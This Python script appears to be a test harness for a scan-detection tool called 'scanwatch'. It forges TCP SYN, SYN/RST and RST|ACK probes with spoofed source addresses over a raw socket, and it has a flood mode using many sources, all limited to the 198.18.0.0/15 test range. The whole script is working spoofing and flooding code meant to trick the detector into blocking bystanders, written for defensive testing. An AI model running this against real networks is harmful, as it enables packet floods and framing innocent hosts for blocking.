#!/usr/bin/env python3
"""Forges TCP probes in other hosts' names with a raw socket (run it in the
scanner namespace): what an attacker does to aim scanwatch's blocking at a
bystander. Sources must stay inside 198.18.0.0/15. Kinds:
  syn      nmap-like SYNs (window 1024, MSS 1460) to --ports
  synrst   the same, each followed by the bare RST nmap sends (seq ISN+1)
  rstack   the same, each followed by a RST|ACK "handshake" (seq ISN+1,
           ack guessed: --ack, or random)
  flood    --count sources counting up from --src, each sending `syn` and
           `synrst` packets to --ports, all built first and sent within
           --seconds
Usage: forge.py --kind syn --src 198.18.0.3 --dst 198.18.0.1 --ports 80,1,2,3"""
import argparse
import ipaddress
import random
import socket
import struct
import time

from benign_traffic import csum  # the Internet checksum (RFC 1071)

NET = ipaddress.ip_network("198.18.0.0/15")


def ip_header(src, dst, payload_len, ident):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0, 64, 6, 0, src, dst)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def tcp(src, dst, sport, dport, seq, ack, flags, opts=b"", window=1024):
    doff = (20 + len(opts)) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, doff << 4, flags, window, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(h))
    h = h[:16] + struct.pack("!H", csum(pseudo + h)) + h[18:]
    return ip_header(src, dst, len(h), random.randrange(1, 65535)) + h


SYN, RST, ACK = 0x02, 0x04, 0x10
MSS = b"\x02\x04\x05\xb4"


def probes(kind, src, dst, ports, guess):
    """The packets of one forged source: a list of (delay-before, packet)."""
    out = []
    sport = random.randrange(40000, 60000)
    for port in ports:
        isn = random.randrange(0, 1 << 32)
        out.append(tcp(src, dst, sport, port, isn, 0, SYN, MSS))
        if kind in ("synrst", "flood"):
            out.append(tcp(src, dst, sport, port, (isn + 1) & 0xFFFFFFFF, 0, RST, window=0))
        elif kind == "rstack":
            ack = guess if guess is not None else random.randrange(0, 1 << 32)
            out.append(tcp(src, dst, sport, port, (isn + 1) & 0xFFFFFFFF, ack, RST | ACK, window=0))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--kind", choices=["syn", "synrst", "rstack", "flood"], required=True)
    ap.add_argument("--src", required=True, help="the forged source (flood: the first one)")
    ap.add_argument("--dst", required=True)
    ap.add_argument("--ports", default="80,1,2,3,4,5,6,7")
    ap.add_argument("--count", type=int, default=1, help="flood: forged sources")
    ap.add_argument("--seconds", type=float, default=2.0, help="flood: spread over this long")
    ap.add_argument("--ack", type=lambda s: int(s, 0), default=None, help="rstack: the guessed ack")
    ap.add_argument("--gap", type=float, default=0.05, help="seconds between a SYN and its RST")
    a = ap.parse_args()
    ports = [int(p) for p in a.ports.split(",")]
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    first = ipaddress.IPv4Address(a.src)
    srcs = [first + i for i in range(a.count)]
    assert all(x in NET for x in srcs), "forged sources must stay in 198.18.0.0/15"
    if a.kind != "flood":
        for src in srcs:
            pkts = probes(a.kind, src.packed, dst, ports, a.ack)
            for i, p in enumerate(pkts):
                s.sendto(p, (a.dst, 0))
                # a RST goes after the SYN/ACK it pretends to answer
                if i + 1 < len(pkts) and pkts[i + 1][33] & RST:
                    time.sleep(a.gap)
        print(len(srcs))
        return
    # flood: build everything first, then send at an even pace
    pkts = []
    for src in srcs:
        pkts.extend(probes("flood", src.packed, dst, ports, None))
    t0 = time.monotonic()
    per = a.seconds / max(len(pkts), 1)
    sent = 0
    for i, p in enumerate(pkts):
        while True:
            try:
                s.sendto(p, (a.dst, 0))
                sent += 1
                break
            except BlockingIOError:
                time.sleep(0.001)
        if i % 512 == 0:
            ahead = t0 + i * per - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print("%d %d %.2f" % (len(srcs), sent, time.monotonic() - t0))


if __name__ == "__main__":
    main()
